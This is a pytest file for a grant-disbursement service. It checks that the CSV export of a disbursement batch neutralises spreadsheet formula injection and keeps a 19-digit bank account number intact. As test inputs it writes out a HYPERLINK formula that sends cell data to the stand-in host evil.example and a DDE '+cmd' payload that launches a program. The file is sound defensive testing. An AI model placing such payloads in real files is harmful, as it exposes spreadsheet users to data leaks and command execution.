"""The finance file (GET /disbursement-batches/{id}/export.csv) cannot execute in a spreadsheet and keeps every
digit of an account number (issue 8; srdi.kit.spreadsheet)."""

from __future__ import annotations

import csv
import io

from tests.auto_grant.variable_policy import KEY, publish_variable_policy
from tests.policy.factories import enterprise


def test_a_formula_in_the_account_name_is_inert_and_a_19_digit_account_keeps_all_digits(db, client_as):
    a = enterprise(db, dg_innovative=True, rd_deductible_yuan="4000000.00")
    official = client_as("city_official", region_code="4419")
    publish_variable_policy(db)
    assert (
        official.post("/api/v1/grant-runs", json={"policy_key": KEY, "as_of": "2025-06-30"}).status_code
        == 202
    )
    me = client_as("enterprise", enterprise_id=a.id)
    gid = me.get(f"/api/v1/enterprises/{a.id}/grants").json()[0]["id"]
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    r = me.post(
        f"/api/v1/grants/{gid}/consent",
        json={
            "bank_name": "+cmd|' /C calc'!A0",
            "account_name": hostile,
            "bank_account": "6222021234567890123",
        },
    )
    assert r.status_code == 200, r.text
    batch = official.post("/api/v1/disbursement-batches", json={"policy_key": KEY, "period": "2025"}).json()
    text = official.get(f"/api/v1/disbursement-batches/{batch['id']}/export.csv").content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["账户名称"] == "'" + hostile
    assert cells["开户银行"] == "'+cmd|' /C calc'!A0"
    assert cells["银行账号"] == "\t6222021234567890123"
    assert not any(c.startswith(("=", "+", "-", "@")) for c in row)
